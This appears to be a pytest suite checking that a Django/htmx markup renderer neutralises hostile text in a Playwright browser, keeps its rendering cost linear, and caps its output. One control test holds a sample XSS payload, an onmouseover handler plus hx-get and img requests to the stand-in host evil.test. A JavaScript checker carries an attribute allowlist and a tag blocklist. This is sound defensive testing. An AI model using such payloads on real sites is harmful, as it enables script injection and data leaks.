"""Hostile texts are inert in a real browser with htmx on the page, and cost no more than their length."""

from __future__ import annotations

import gc
import html
import time
from collections.abc import Callable, Iterator
from itertools import islice
from pathlib import Path
from typing import Any

import django_htmx
import pytest
from playwright.sync_api import Page, Route

from reviews.text import dialect, outline
from reviews.text.dialect import Rendered, Resolver
from tests.corpora import CORPORA
from tests.text import laws, shapes, vectors

HTMX = Path(django_htmx.__file__).parent / "static" / "django_htmx" / "htmx-2.min.js"
SITE = "http://spec.test/"
LOCAL_IMAGE = "http://spec.test/media/local.png"

LOOK = """
() => {
  const allowed = new Set(
    'class data-block href rel title tabindex start src alt id dir rowspan colspan'.split(' ')
  )
  const faults = []
  for (const section of document.querySelectorAll('body > section')) {
    for (const element of section.querySelectorAll('*')) {
      for (const {name, value} of element.attributes) {
        const good = allowed.has(name)
          && (name !== 'href' || /^(https?:|mailto:|#)/i.test(value))
          && (name !== 'src' || value === '/media/local.png')
          && (name !== 'id' || value.startsWith('in-'))
          && (name !== 'data-block' || /^b[0-9a-f]+(-[0-9]+)?$/.test(value))
        if (!good) faults.push([Number(section.dataset.number), `${element.localName} ${name}=${value}`])
      }
      if (/^(script|style|iframe|object|embed|form|input|svg|math|template|link|meta|base|button)$/.test(element.localName))
        faults.push([Number(section.dataset.number), element.localName])
      for (const kind of ['click', 'mouseover', 'pointerenter', 'focus', 'load', 'error', 'toggle', 'animationstart'])
        if (kind !== 'click' || element.localName !== 'a') element.dispatchEvent(new Event(kind, {bubbles: true}))
    }
  }
  return {
    faults,
    fired: window.fired,
    texts: [...document.querySelectorAll('body > section')].map(section => [Number(section.dataset.number), section.textContent]),
  }
}
"""


def batches(texts: list[str], size: int) -> Iterator[list[str]]:
    rest = iter(texts)
    while batch := list(islice(rest, size)):
        yield batch


def document(rendered: list[Rendered]) -> str:
    sections = "".join(f'<section data-number="{at}">{each.html}</section>' for at, each in enumerate(rendered))
    return (
        f'<!doctype html><meta charset="utf-8"><title>t</title><script src="/htmx.js"></script><body>{sections}</body>'
    )


def shown(page: Page, rendered: list[Rendered]) -> tuple[dict[str, Any], list[str]]:
    """What the browser makes of renderings on one page, and every request that leaves it."""
    requests: list[str] = []

    def answer(route: Route) -> None:
        url = route.request.url
        if url == SITE:
            route.fulfill(body=document(rendered), content_type="text/html; charset=utf-8")
        elif url == SITE + "htmx.js":
            route.fulfill(path=HTMX, content_type="text/javascript")
        else:
            requests.append(url)
            route.abort()

    page.on("dialog", lambda dialog: requests.append(f"dialog {dialog.message}"))
    page.route("**/*", answer)
    page.goto(SITE, wait_until="load")
    page.wait_for_function("window.htmx !== undefined")
    found = page.evaluate(LOOK)
    page.wait_for_timeout(150)
    page.unroute("**/*")
    return found, requests


def test_the_vectors_are_many():
    assert len(set(vectors.payloads())) >= 300
    assert len(set(vectors.vectors())) >= 3000


def test_the_watch_would_see_a_script_and_a_request(page: Page):
    attack = '<b onmouseover="window.fired=1" hx-get="//evil.test/x" hx-trigger="load">a</b><img src="//evil.test/y">'
    found, requests = shown(page, [Rendered("", attack, "a")])
    assert found["fired"] == 1
    assert [fault for _, fault in found["faults"]] == [
        "b onmouseover=window.fired=1",
        "b hx-get=//evil.test/x",
        "b hx-trigger=load",
        "img src=//evil.test/y",
    ]
    assert "http://evil.test/y" in requests


def test_no_vector_does_anything_and_all_its_text_is_shown(open_page: Callable[..., Page]):
    for batch in batches(vectors.vectors(), 500):
        rendered = [dialect.render(source, laws.RESOLVER) for source in batch]
        found, requests = shown(open_page(), rendered)
        assert [(batch[at], fault) for at, fault in found["faults"]] == []
        assert found.get("fired") is None
        assert set(requests) <= {LOCAL_IMAGE}
        assert found["texts"] == [[at, each.text] for at, each in enumerate(rendered)]


@pytest.mark.parametrize("folder", ["model_spec", "cloudevents", "semver", "claude_constitution"])
def test_the_browser_reads_the_same_text_in_every_clause(open_page: Callable[..., Page], folder: str):
    seen: set[str] = set()
    rendered = []
    for path in sorted((CORPORA / folder).glob("*.md")):
        parsed = outline.parse(path.read_bytes().decode())
        resolve = Resolver.of(parsed)
        new = [clause.source for clause in parsed.clauses if clause.source not in seen]
        rendered += [dialect.render(source, resolve) for source in new]
        seen.update(new)
    for start in range(0, len(rendered), 150):
        part = rendered[start : start + 150]
        found, requests = shown(open_page(), part)
        assert found["faults"] == []
        assert requests == []
        assert found["texts"] == [[at, each.text] for at, each in enumerate(part)]


def test_the_laws_hold_of_every_vector():
    for source in vectors.vectors():
        laws.check_rendering(source)
        laws.check_outline(source)


def test_an_attack_shown_as_code_keeps_all_its_characters():
    for payload in vectors.payloads():
        if payload.isprintable() and "`" not in payload:
            assert dialect.render(f"`` {payload} ``", Resolver()).text == f"{payload}\n"


@pytest.mark.parametrize("shape", shapes.SHAPES)
def test_cost_grows_with_the_length(shape: str):
    small, large = shapes.SHAPES[shape](8_000), shapes.SHAPES[shape](80_000)
    for work in (outline.parse, lambda source: dialect.render(source, laws.RESOLVER)):
        once, tenfold = cost(work, small), cost(work, large)
        assert tenfold < max(25 * once, 0.25), (once, tenfold)
        assert tenfold < 5


def cost(work: Callable[[str], object], source: str) -> float:
    """CPU seconds without the garbage collector, whose full runs would blur the comparison."""
    gc.collect()
    gc.disable()
    try:
        start = time.process_time()
        work(source)
        return time.process_time() - start
    finally:
        gc.enable()


@pytest.mark.parametrize("shape", shapes.SHAPES)
def test_the_laws_hold_of_hostile_shapes(shape: str):
    source = shapes.SHAPES[shape](1_500)
    laws.check_outline(source)
    laws.check_rendering(source)


def test_output_is_capped_and_says_so():
    flood = dialect.render("[?](#long) " * 20_000, Resolver(titles={"long": "x" * 1_000}))
    assert len(flood.html) < 7_500_000
    assert flood.body_html.rstrip().endswith(
        '<p class="cut-off">The rest of this clause is too long to be shown here.</p>'
    )
    assert flood.text.endswith("The rest of this clause is too long to be shown here.\n")


def test_input_is_capped_and_says_so():
    source = "word " * 200_000
    capped = dialect.render(source, Resolver())
    assert 'class="cut-off"' in capped.html
    assert capped.text.startswith("word word")
    assert html.unescape(capped.text).count("word") == dialect.MAX_SOURCE // 5
